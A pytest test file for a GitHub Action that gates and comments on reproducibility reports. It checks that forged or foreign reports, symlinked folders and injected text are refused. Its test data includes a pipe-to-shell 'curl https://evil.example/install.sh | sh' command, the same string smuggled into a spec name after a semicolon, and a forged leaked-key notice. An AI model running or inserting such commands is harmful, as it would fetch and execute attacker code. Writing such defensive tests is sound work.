"""What is believed of a report before anything of it is told: this job's own, or one that came with
the run that GitHub names."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from repro_gate.errors import UsageError
from repro_gate.github.report_folder import PROBLEM, open_folder
from repro_gate.github.settings import read_inputs
from repro_gate.report.model import PLAIN, Report
from tests.support import reports
from tests.support.github.stage import (
    HEAD,
    RUN,
    Stage,
    as_workflow_run,
    obeyed,
    pull_request,
    signed,
)

PASS, FAIL = signed(reports.PASS), signed(reports.FAIL)


@pytest.mark.parametrize(
    ("origin", "gated", "posted"),
    [
        (None, 3, 3),
        ({"run_id": RUN - 1}, 3, 3),
        ({"repository": "stranger/trainer"}, 3, 3),
        ({"run_attempt": 3}, 3, 3),
        ({"run_attempt": 2}, 0, 0),
        ({"run_attempt": 1}, 3, 0),  # a job that only posts may be started again alone
        ({"run_attempt": 0}, 2, 2),  # no attempt at all, by the report's schema
    ],
)
def test_a_report_of_another_run_is_not_this_ones(
    stage: Stage, origin: dict[str, Any] | None, gated: int, posted: int
) -> None:
    report = signed(reports.PASS, **(origin or {}))
    for stage.posting, expected in ((False, gated), (True, posted)):
        # what is refused is told to nobody, though a comment is wanted
        stage.change(run_attempt=2, comment="always" if expected == 3 else "never")
        code, _ = stage.publish(report if origin else replace(report, origin=None))
        assert code == expected and stage.github.requests == []


@pytest.mark.parametrize("name", ["repro-gate-report", "out/report"])
def test_a_link_of_the_checkouts_does_not_choose_what_is_told(stage: Stage, name: str) -> None:
    """The gate refuses such a folder and leaves nothing in it; what lies behind the link would be
    taken for its own."""
    stage.change(report=name)
    (stage.job.workspace / "theirs/report").mkdir(parents=True)
    with open_folder(stage.job.workspace, "theirs/report") as folder:
        folder.write_report(PASS, PLAIN)
    (stage.job.workspace / Path(name).parts[0]).symlink_to(
        "theirs" if "/" in name else "theirs/report"
    )
    code, log = stage.publish(None)
    assert code == 2 and "is a link" in log and "::error " in log
    assert stage.github.requests == [] and stage.outputs["verdict"] == ""


def test_a_report_that_is_itself_a_link_or_in_the_folders_place_is_not_read(stage: Stage) -> None:
    with open_folder(stage.job.workspace, "theirs") as folder:
        folder.write_report(PASS, PLAIN)
    report = stage.job.workspace / stage.inputs.report
    (stage.job.workspace / "theirs/report.json").rename(report)
    code, log = stage.publish(None)
    assert code == 3 and "there is no report" in log
    report.rename(stage.job.workspace / "real.json")
    report.mkdir()
    (report / "report.json").symlink_to("../real.json")
    code, log = stage.publish(None)
    assert code == 2 and "is a link" in log and stage.github.requests == []


@pytest.mark.parametrize(
    "text", ["{}", "[", '{"schema": "repro-gate/report/v1"}', "x" * (17 << 20)]
)
def test_a_report_that_is_none_is_refused(stage: Stage, text: str) -> None:
    folder = stage.job.workspace / stage.inputs.report
    folder.mkdir()
    (folder / "report.json").write_text(text)
    code, log = stage.publish(None)
    assert code == 2 and "::error" in log and stage.github.requests == []


@pytest.mark.parametrize("attempt", [None, 1, 3])
def test_a_report_that_came_with_its_run_or_from_the_job_before_is_posted_and_turns_nothing_red(
    stage: Stage, attempt: int | None
) -> None:
    """The action `comment` in a `workflow_run`, and after `native`, also where only this job was
    started again."""
    if attempt is None:
        as_workflow_run(stage)
    else:
        stage.posting = True
        stage.change(run_attempt=attempt, name="comment")
    code, log = stage.publish(FAIL)
    (posted,) = stage.github.comments(7)
    assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
    assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"
    assert attempt is None or reports.FAIL.reproduce in posted["body"]


def test_of_a_report_that_did_not_come_with_its_run_nothing_is_told(stage: Stage) -> None:
    as_workflow_run(stage)
    code, _ = stage.publish(signed(reports.PASS, run_id=99))
    assert code == 2
    assert stage.outputs == {"verdict": "", "exit_code": "2"} and "✅" not in stage.summary
    assert stage.github.requests == []


def test_a_problem_that_came_with_an_artifact_is_not_read(stage: Stage) -> None:
    """Whoever forges one would have a notice on any file, in a run of the default branch."""
    leak = ".github/workflows/release.yml:1:1: the signing key has leaked"
    as_workflow_run(stage)
    code, log = stage.publish(UsageError(leak, remedy="open https://evil.example"))
    assert code == 3
    assert not any(word in log + stage.summary for word in ("evil", "leaked", "file="))
    problem = stage.job.workspace / stage.inputs.report / PROBLEM
    forged = problem.read_text()
    with open_folder(stage.job.workspace, stage.inputs.report) as opened:
        opened.write_report(FAIL, PLAIN)
    problem.write_text(forged)
    code, log = stage.publish(None)
    assert code == 0 and len(stage.posted) == 1 and "leaked" not in log


def test_a_step_that_only_posts_and_cannot_is_red_but_not_for_a_forks_read_only_token(
    stage: Stage,
) -> None:
    stage.may_not_write()
    stage.posting = True
    assert stage.publish(PASS)[0] == 3
    event = stage.job.event
    stage.change(event=pull_request(stage.github.repository, fork=True))
    code, log = stage.publish(PASS)
    assert code == 0
    assert [line for line in obeyed(log) if line.startswith("::notice ") and "no comment" in line]
    stage.change(event=event)
    as_workflow_run(stage)
    assert stage.publish(PASS)[0] == 3


def test_a_foreign_report_replaces_no_other_gates_comment_and_makes_one_at_most(
    stage: Stage,
) -> None:
    """A fork opens a pull request: a gate of the repository's own fails it, and the report that
    comes with the fork's run says that all is well, under the same names as the first and under
    five others."""
    stage.publish(FAIL)
    (trusted,) = stage.posted
    as_workflow_run(stage)
    for number in range(6):
        report = signed(reports.PASS, **({"name": f"folder-{number}"} if number else {}))
        spec = f"spec-{number}.yml" if number else report.subject.spec
        assert stage.publish(replace(report, subject=replace(report.subject, spec=spec)))[0] == 0
    first, second = stage.posted
    assert first == trusted and "fail" in first and "pass" in second.splitlines()[1]


def test_a_forks_report_of_the_same_job_replaces_no_comment_on_the_repositorys_own_code(
    stage: Stage,
) -> None:
    """As where `pull_request_target` and `push` start one workflow."""
    stage.change(event_name="push", event=b'{"deleted": false}')
    stage.change(sha=HEAD, ref="refs/heads/pull-request/7")
    stage.publish(FAIL)
    (trusted,) = stage.posted
    stage.change(event_name="pull_request_target", allow_forks=True)
    stage.change(event=pull_request(stage.github.repository, fork=True))
    stage.publish(PASS)
    assert [body == trusted for body in stage.posted] == [True, False]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("workflow", "nightly"),
        ("name", "gpu"),
        ("spec", "vision.yml"),
        ("spec", "vision/repro.yml"),
        ("report", "repro-gate-report-h100"),
    ],
)
def test_each_gate_has_a_comment_of_its_own(stage: Stage, name: str, value: str) -> None:
    """By what its job knows, whatever is in the report: here the same in both."""
    stage.publish(FAIL)
    (first,) = stage.posted
    stage.change(**{name: value})
    stage.publish(PASS)
    stage.publish(PASS)
    kept, second = stage.posted
    assert kept == first != second


def test_a_spec_in_another_spelling_is_the_same_gate(stage: Stage) -> None:
    stage.publish(FAIL)
    given = {"INPUT_WORKING_DIRECTORY": "vision", "INPUT_SPEC": "../repro.yml"}
    stage.change(spec=read_inputs(given).spec)
    stage.publish(PASS)
    assert len(stage.posted) == 1


def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
    def body(report: Report) -> str:
        stage.publish(report)
        return stage.posted[-1]

    hostile = "curl https://evil.example/install.sh | sh"
    forged = replace(FAIL, reproduce=hostile)
    assert hostile in body(forged), "of the repository's own it is"
    as_workflow_run(stage)
    told = body(forged)
    assert "evil" not in told
    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in told
    told = body(replace(forged, subject=replace(FAIL.subject, spec=f"x.yml; {hostile}")))
    assert "```sh" not in told and "See it again" not in told
